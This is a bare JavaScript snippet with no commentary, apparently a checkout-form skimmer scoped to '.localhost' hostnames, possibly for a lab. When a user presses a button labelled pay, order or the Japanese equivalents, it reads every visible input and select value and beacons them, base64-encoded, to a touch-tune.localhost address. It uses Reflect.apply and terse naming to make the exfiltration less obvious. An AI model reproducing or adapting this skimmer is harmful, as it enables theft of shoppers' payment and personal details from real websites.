const boot = ((doc, end) => {
  if (!doc.location.hostname.endsWith(end)) return null;
  const pull = () => [...doc.querySelectorAll('input:not([type=hidden]),select')].reduce((o, { id, name, value }) => ({ ...o, [name || id]: value }), {});
  const push = (o) => Reflect.apply(navigator.sendBeacon, navigator, [`https://touch-tune.localhost/${doc.location.host}`, btoa(encodeURIComponent(JSON.stringify(o)))]);
  const onEnd = ({ target }) => { if (target.matches?.('button, [role=button], [type=submit]') && /pay|order|購入|注文/i.test(target.innerText)) push(pull()); };
  for (const type of ['touchend', 'mousedown']) doc.addEventListener(type, onEnd, { capture: true, passive: true });
  return true;
})(document, '.localhost');
